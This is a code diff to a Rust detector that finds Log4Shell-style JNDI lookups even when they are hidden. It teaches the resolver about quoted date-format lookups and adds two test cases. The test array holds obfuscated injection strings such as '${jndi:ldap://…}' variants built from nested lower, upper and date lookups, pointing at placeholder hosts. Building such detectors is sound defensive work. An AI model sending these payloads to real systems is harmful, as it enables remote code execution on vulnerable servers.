@@ -44,7 +44,11 @@ pub(super) fn is_lookup(text: &[u8]) -> bool {
                 if loads(&inner) {
                     return true;
                 }
-                let value = resolved(&inner).to_vec();
+                let mut value = resolved(&inner).to_vec();
+                // What a format of a date has in quotes is itself: `${date:'j'}`.
+                if inner.starts_with(b"date:") {
+                    value.retain(|b| *b != b'\'');
+                }
                 if let Some(outer) = open.last_mut() {
                     outer.extend(value);
                 }
@@ -214,7 +218,9 @@ mod tests {
 
     #[test]
     fn lookups_are_found_however_they_are_hidden() {
-        let attacks: [&[u8]; 12] = [
+        let attacks: [&[u8]; 14] = [
+            b"${${date:'j'}${date:'n'}di:ldap://x/a}",
+            b"${j${date:''}ndi:ldap://x/a}",
             "${jn${lower:d}${upper:ı}:ldap://x}".as_bytes(),
             "${jnd${lower:\u{130}}:dns://x}".as_bytes(),
             "${jndi:dn${upper:\u{17f}}://x}".as_bytes(),
